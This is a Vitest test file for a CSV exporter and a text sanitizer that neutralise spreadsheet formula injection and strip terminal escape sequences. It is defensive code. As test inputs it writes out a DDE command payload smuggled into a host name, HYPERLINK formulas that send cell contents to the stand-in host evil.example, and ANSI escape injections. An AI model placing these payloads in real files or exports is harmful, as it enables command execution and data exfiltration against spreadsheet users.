import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.js';
import { printable } from './printable.js';

describe('CSV (RFC 4180)', () => {
  it('quotes every text field and list, doubling the quotes; numbers and booleans bare, null empty', () => {
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(false)).toBe('false');
    expect(csvField(['pc-a', 'pc-b'])).toBe('"pc-a;pc-b"');
    expect(csvField(['a,b'])).toBe('"a,b"');
  });

  it('makes text that starts like a spreadsheet formula plain text; numbers stay numbers', () => {
    expect(csvField('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"');
    expect(csvField('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField(['=1', 'b'])).toBe(`"'=1;b"`);
    expect(csvField(-5)).toBe('-5');
  });

  it("a spreadsheet splitting on ';' (de-DE, fr-FR) sees no cell starting like a formula", () => {
    // A rogue agent's host name: no comma, no double quote.
    const host = "pc;=cmd|' /C calc'!A0";
    const line = toCsv(['machine', 'address'], [{ machine: host, address: '10.0.0.1:7390' }]).split(
      '\r\n',
    )[1] as string;
    expect(line).toBe(`"pc;'=cmd|' /C calc'!A0","10.0.0.1:7390"`);
    // Every list element is checked, not only the first (mak-usage, duplicate-cmid `machines`).
    const list = toCsv(['machines'], [{ machines: ['pc-1', "=cmd|' /C calc'!A0", '+x', '@y', '-z'] }]).split('\r\n')[1];
    expect(list).toBe(`"pc-1;'=cmd|' /C calc'!A0;'+x;'@y;'-z"`);
    // Split either way, quotes honoured or not: no cell starts with a formula character.
    for (const text of [line, list as string]) {
      for (const cell of text.split(/[;,]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csvField('a,=b')).toBe(`"a,'=b"`);
  });

  it('nor a line or cell starting after a line break or tab kept inside a text', () => {
    const csv = toCsv(
      ['name', 'host', 'msg'],
      [{ name: 'pc-1', host: 'kms.example\n=HYPERLINK("http://evil.example/?"&A1,"x")', msg: 'ok\t=1+1' }],
    );
    expect(csv).toContain(`"kms.example\n'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csv).toContain(`"ok\t'=1+1"`);
    expect(csvField(['a\r\n+1', 'b\r@x'])).toBe(`"a\r\n'+1;b\r'@x"`);
    for (const line of csv.split(/[\r\n]+/)) {
      for (const cell of line.split(/[;,\t]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    }
  });

  it('a header line of the bare column names, one line per row in column order, CRLF after each', () => {
    expect(
      toCsv(
        ['name', 'note'],
        [
          { note: 'x, "y"', name: 'one' },
          { name: 'two', note: null },
        ],
      ),
    ).toBe('name,note\r\n"one","x, ""y"""\r\n"two",\r\n');
  });
});

describe('agent text on output', () => {
  it('drops escape sequences and control characters from CSV fields, keeping line breaks', () => {
    expect(csvField('\x1b]0;pwned\x07office')).toBe('"office"');
    expect(csvField('a\x1b[2Jb\x1b[31mc\x1b[0m')).toBe('"abc"');
    expect(csvField('x\x00y\x7fz\x9b2Jw\u202eq')).toBe('"xyzwq"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(toCsv(['group'], [{ group: '\x1b]0;pwned\x07' }])).toBe('group\r\n\r\n');
  });

  it('printable() removes every escape and control character, tab and newline too', () => {
    expect(printable('\x1b]0;pwned\x07pc-1\x1b[2J')).toBe('pc-1');
    expect(printable('\x1bP1;2|secret\x1b\\ok')).toBe('ok');
    expect(printable('a\tb\nc\rd')).toBe('abcd');
    expect(printable('café – 東京')).toBe('café – 東京');
  });
});
